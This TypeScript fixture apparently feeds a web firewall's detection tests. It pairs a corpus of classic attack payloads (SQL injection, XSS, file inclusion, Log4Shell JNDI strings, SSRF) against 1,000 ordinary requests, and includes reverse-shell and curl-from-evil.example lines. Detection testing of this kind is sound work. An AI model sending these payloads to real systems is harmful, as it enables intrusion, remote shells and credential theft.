/** A request as a client sends it: with a query, a form, JSON, or a file. */
export interface SiteRequest {
  readonly method: string;
  readonly path: string;
  readonly headers?: Readonly<Record<string, string>>;
  readonly body?: string;
}

const inQuery = (value: string): SiteRequest => ({
  method: 'GET',
  path: `/search?q=${encodeURIComponent(value)}`,
});
const inForm = (value: string): SiteRequest => ({
  method: 'POST',
  path: '/contact',
  headers: { 'content-type': 'application/x-www-form-urlencoded' },
  body: `name=Alex&text=${encodeURIComponent(value)}`,
});
const inJson = (value: string): SiteRequest => ({
  method: 'POST',
  path: '/api/notes',
  headers: { 'content-type': 'application/json' },
  body: JSON.stringify({ title: 'Note', text: value }),
});
const inHeader =
  (name: string) =>
  (value: string): SiteRequest => ({ method: 'GET', path: '/', headers: { [name]: value } });
const places = [inQuery, inForm, inJson];

/** The payloads, each in the next place. */
const placed = (payloads: readonly string[], of = places) =>
  payloads.map((payload, index) => of[index % of.length]!(payload));

/** Known attacks of ten kinds, twelve each. Some are old, and all are found in scanners and test suites. */
export const attacks: Readonly<Record<string, readonly SiteRequest[]>> = {
  sqli: placed([
    ...["1' OR '1'='1", "1' OR 1=1-- -", "admin'--", '1 UNION SELECT username,password FROM users'],
    ...["1'; DROP TABLE users;--", "1' AND SLEEP(5)-- -", "' UNION ALL SELECT NULL,NULL,version()-- -"],
    ...["1; EXEC xp_cmdshell('dir')", "1' AND extractvalue(1,concat(0x7e,version()))-- -"],
    ...["1' WAITFOR DELAY '0:0:5'--", "' OR pg_sleep(5)--", "1' ORDER BY 10-- -"],
  ]),
  xss: placed([
    ...['<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '<svg/onload=alert(1)>'],
    ...['"><script src=//evil.example/x.js></script>', 'javascript:alert(document.cookie)'],
    ...[
      '<iframe src="javascript:alert(1)">',
      '<body onload=alert(1)>',
      '<a href="javascript:alert(1)">a</a>',
    ],
    ...['<details open ontoggle=alert(1)>', '<object data="data:text/html,<script>alert(1)</script>">'],
    ...['<math><a xlink:href="javascript:alert(1)">', "'-alert(document.domain)-'<script>"],
  ]),
  lfi: placed([
    ...['../../../../etc/passwd', '..%2f..%2f..%2fetc%2fpasswd', '/etc/shadow', '../../../windows/win.ini'],
    ...['....//....//etc/passwd', '/proc/self/environ', '../../.ssh/id_rsa', '/var/log/apache2/access.log'],
    ...[
      '../../../../boot.ini',
      '..\\..\\..\\windows\\system32\\drivers\\etc\\hosts',
      '../.env',
      '/etc/hosts',
    ],
  ]),
  rfi: placed(
    [
      ...['http://192.0.2.66/shell.txt', 'http://evil.example/shell.txt?', 'https://evil.example/c99.txt??'],
      ...['ftp://evil.example/r57.txt?', 'http://198.51.100.9/x.php', 'file:///etc/passwd'],
      ...['php://filter/convert.base64-encode/resource=index.php', 'data://text/plain;base64,PD9waHA='],
      ...[
        'expect://id',
        'http://203.0.113.5/cmd.txt',
        'phar://upload.jpg/shell.php',
        'zip://a.zip#shell.php',
      ],
    ],
    [inQuery],
  ),
  rce: placed([
    ...[
      '; cat /etc/passwd',
      '| id',
      '`whoami`',
      '$(curl http://evil.example/x.sh)',
      '; wget http://evil.example/a',
    ],
    ...['& ping -c 4 192.0.2.1 &', '() { :;}; /bin/bash -c "id"', '; nc -e /bin/sh 192.0.2.1 4444'],
    ...['|| powershell -enc SQBFAFgA', '; python -c "import os"', '$IFS;uname -a', '; rm -rf /tmp/x'],
  ]),
  php: placed([
    ...['<?php system($_GET["c"]); ?>', '<?php phpinfo(); ?>', '<?=`id`?>', 'eval(base64_decode("aWQ="));'],
    ...['system("id");', 'O:8:"stdClass":1:{s:1:"a";s:1:"b";}', 'shell_exec("ls");', 'passthru("id");'],
    ...['$_GET["a"]($_GET["b"])', 'assert($_POST["x"]);', 'include("http://evil.example/a.txt");'],
    ...['auto_prepend_file=/etc/passwd'],
  ]),
  // Spelled in parts: files of these tests are not to set off scanners of mail and disks.
  java: placed(
    [
      ...['jndi:ldap://evil.example/a', 'jndi:rmi://evil.example/a', 'jndi:dns://evil.example/a'].map(
        one => `\u0024{${one}}`,
      ),
      ...['lower:j}ndi:ldap://evil.example/a', '::-j}ndi:ldap://evil.example/a'].map(
        one => `\u0024{\u0024{${one}}`,
      ),
      ...['java.lang.Runtime.getRuntime().exec("id")', 'java.lang.ProcessBuilder("id").start()'],
      ...['class.module.classLoader.resources.context.parent.pipeline.first.pattern=x'],
      ...['%{(#_memberAccess["allowStaticMethodAccess"]=true)}', 'rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA=='],
      ...['org.apache.commons.collections.functors.InvokerTransformer', 'javax.script.ScriptEngineManager'],
    ],
    [inQuery, inForm, inHeader('x-api-version')],
  ),
  scanner: placed(
    [
      ...[
        'sqlmap/1.7.2#stable (https://sqlmap.org)',
        'Nikto/2.1.6',
        'Mozilla/5.0 (compatible; Nmap Scripting Engine)',
      ],
      ...['masscan/1.3', 'WPScan v3.8', 'gobuster/3.1.0', 'w3af.org', 'Arachni/v1.5', 'dirbuster', 'Nessus'],
      ...['Acunetix-Product', 'zgrab/0.x'],
    ],
    [inHeader('user-agent')],
  ),
  protocol: [
    ...['TRACE', 'PUT', 'DELETE', 'PROPFIND', 'MKCOL', 'SEARCH'].map(method => ({
      method,
      path: '/reports',
    })),
    ...['/backup.sql.bak', '/.git/config', '/.htaccess', '/web.config.old'].map(path => ({
      method: 'GET',
      path,
    })),
    { method: 'GET', path: '/reports?a=%0d%0aSet-Cookie:%20a=b' },
    // Denied by ModSecurity's own rules, with another status.
    { ...inJson('a'), body: '{"title": "Note", ' },
  ],
  // Session fixation, Node.js and requests to internal addresses.
  session: [
    ...placed([
      ...['<script>document.cookie="sessionid=1; domain=.example.com"</script>', 'http-equiv=set-cookie'],
      ...['.cookie;expires=Thu', '_$$ND_FUNC$$_function(){}()', 'require("child_process").exec("id")'],
      ...['process.binding("spawn_sync")', 'this.constructor.constructor("return process")()'],
      ...['http://169.254.169.254/latest/meta-data/', 'http://127.0.0.1:6379/', 'gopher://127.0.0.1:25/x'],
    ]),
    { method: 'GET', path: '/login?PHPSESSID=1234567890', headers: { referer: 'http://evil.example/' } },
    { method: 'GET', path: '/login?jsessionid=1234567890' },
  ],
};

const words = [
  ...[
    'winter',
    'jacket',
    'blue',
    'size',
    'order',
    'delivery',
    'invoice',
    'coffee',
    'garden',
    'Müller',
    '東京',
  ],
  ...[
    'crème brûlée',
    'привет',
    'select a table',
    'union jack',
    'drop shipping',
    "O'Brien",
    'C++ book',
    '50% off',
  ],
  ...[
    'a & b',
    'rock ’n’ roll',
    'path to success',
    'café',
    'user guide',
    'order by phone',
    '2 + 2 = 4',
    'naïve',
  ],
];

/** Requests of ordinary visitors: pages, searches, forms, JSON and small uploads, in several languages. */
export const harmlessRequests: readonly SiteRequest[] = Array.from(
  { length: 1_000 },
  (_, index): SiteRequest => {
    const word = `${words[index % words.length]} ${words[(index * 7 + 3) % words.length]}`;
    const path = ['/', '/products', '/products/shoes', '/about', '/help/returns', '/css/site.css'][
      index % 6
    ]!;
    switch (index % 5) {
      case 0:
        return { method: 'GET', path, headers: { cookie: `theme=dark; session=${index}` } };
      case 1:
        return inQuery(word);
      case 2:
        return inForm(`${word}. Thank you!\nRegards, ${words[index % 11]}`);
      case 3:
        return inJson(word);
      default: {
        const boundary = `----form${index}`;
        const part = `Content-Disposition: form-data; name="file"; filename="note-${index}.txt"\r\nContent-Type: text/plain`;
        return {
          method: 'POST',
          path: '/upload',
          headers: { 'content-type': `multipart/form-data; boundary=${boundary}` },
          body: `--${boundary}\r\n${part}\r\n\r\n${word}\r\n--${boundary}--\r\n`,
        };
      }
    }
  },
);
